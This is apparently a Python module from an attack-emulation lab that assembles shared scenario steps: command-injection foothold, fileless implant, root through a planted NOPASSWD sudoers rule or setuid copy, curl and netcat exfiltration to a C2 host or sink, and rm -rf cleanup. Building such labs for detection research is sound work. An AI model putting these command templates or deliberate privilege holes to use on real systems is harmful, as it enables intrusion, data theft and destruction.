"""Steps several scenarios share: the web foothold, the fileless implant, root through a
careless sudo rule or setuid copy, loot sent to the C2 server or the sink, and deletion.

Each function returns a described step (:class:`StepSpec`), a concrete :class:`Action`, or
the shell text or set-up piece a scenario puts into its own actions. Functions that draw
seeded names take the context and draw exactly where they are called, so a scenario's
draws keep their order.
"""

from __future__ import annotations

import posixpath

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.scenario import Action, Channel, Payload, SetupFile, StepSpec
from provarmor.lab.scenarios.implants import fileless_start
from provarmor.lab.techniques import Technique

WEB_EXPLOIT = "Command injection in the web application runs a shell as the web user."
FILELESS_IMPLANT = "A fileless Python implant starts and polls the C2 server over HTTP."


def exploit_step(*also: Technique, summary: str = WEB_EXPLOIT) -> StepSpec:
    """The ``exploit`` step: a shell through the web application's command injection."""
    return StepSpec(
        name="exploit", summary=summary, techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL, *also)
    )


def implant_step(*also: Technique, summary: str = FILELESS_IMPLANT) -> StepSpec:
    """The ``implant`` step: the Python HTTP implant started from the web shell."""
    return StepSpec(name="implant", summary=summary, techniques=(t.PYTHON, t.WEB_PROTOCOLS, *also))


def deletion_step(name: str, summary: str) -> StepSpec:
    """A last step that deletes what the attacker left."""
    return StepSpec(name=name, summary=summary, techniques=(t.FILE_DELETION,))


def web_exploit(command: str) -> Action:
    """The ``exploit`` action: ``command`` sent through the command-injection bug."""
    return Action(step="exploit", channel=Channel.WEBSHELL, command=command)


def start_implant(ctx: LabContext, implant: Payload) -> Action:
    """The ``implant`` action: the web shell pipes ``implant`` into Python, detached."""
    return Action(
        step="implant",
        channel=Channel.WEBSHELL,
        command=fileless_start(ctx.payload_url(implant.path)),
    )


def delete(step: str, channel: Channel, *paths: str) -> Action:
    """``rm -rf`` of ``paths`` as the step ``step``."""
    return Action(step=step, channel=channel, command=f"rm -rf {' '.join(paths)}")


def sudo_rule(ctx: LabContext, *, files: tuple[str, ...], program: str) -> SetupFile:
    """A careless sudoers entry (one of ``files`` in /etc/sudoers.d) that lets the web user
    run ``program`` as root without a password."""
    return SetupFile(
        path=f"/etc/sudoers.d/{ctx.names.pick(files)}",
        mode=0o440,
        content=f"{ctx.web.user} ALL=(root) NOPASSWD: {program}\n",
    )


def setuid_copy(program: str, path: str) -> tuple[tuple[str, ...], ...]:
    """Set-up commands that leave a setuid-root copy of ``program`` at ``path``."""
    return (("cp", program, path), ("chmod", "4755", path))


def download(ctx: LabContext, payload: Payload, target: str) -> str:
    """Shell that fetches ``payload`` from the C2 server to ``target``, creating its folder."""
    url = ctx.payload_url(payload.path)
    return f"mkdir -p {posixpath.dirname(target)} && curl -s -o {target} {url}"


def compile_downloaded(
    ctx: LabContext, source: Payload, output: str, *, flags: str, scratch: str
) -> str:
    """Shell that fetches the C ``source`` into a temporary folder (as ``scratch``), builds
    ``output`` from it with gcc ``flags`` and removes the folder."""
    url = ctx.payload_url(source.path)
    return (
        f"d=$(mktemp -d) && curl -s -o $d/{scratch} {url} && "
        f"gcc {flags} -o {output} $d/{scratch} && rm -rf $d"
    )


def post_to_c2(ctx: LabContext, data: str) -> str:
    """Shell that posts ``data`` (``@FILE``, or ``@-`` for standard input) to the C2 server
    under a seeded path."""
    return f"curl -s --data-binary {data} {ctx.c2.url}/{ctx.names.token(6)}"


def netcat_to_sink(ctx: LabContext) -> str:
    """Shell that streams its standard input to the sink's raw TCP port."""
    return f"nc -N -w 5 {ctx.address('sink')} {ctx.sink_tcp_port}"
